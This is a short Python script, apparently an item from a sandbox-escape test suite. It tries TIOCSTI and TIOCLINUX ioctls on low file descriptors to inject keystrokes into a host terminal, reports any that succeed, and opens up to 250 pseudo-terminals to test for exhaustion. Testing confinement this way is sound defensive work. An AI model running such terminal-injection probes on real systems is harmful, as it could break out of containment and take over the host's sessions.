# ruff: noqa
# Threat: Reaching out. Typing into a terminal of the host's: TIOCSTI, TIOCLINUX, pseudo-terminals without end.
# Outcome: completed
# Marks: 8

# %% before double
import ctypes, fcntl, os
libc = ctypes.CDLL(None, use_errno=True)
for fd in range(8):
    for request in (0x5412, 0x541C, 0x1_0000_5412):
        if libc.ioctl(fd, ctypes.c_ulong(request), b"x") >= 0: print("reached:", fd, hex(request))
terminals = []
try:
    while len(terminals) < 250: terminals.append(os.openpty())
except OSError: pass
for fd, _ in terminals: os.close(fd)
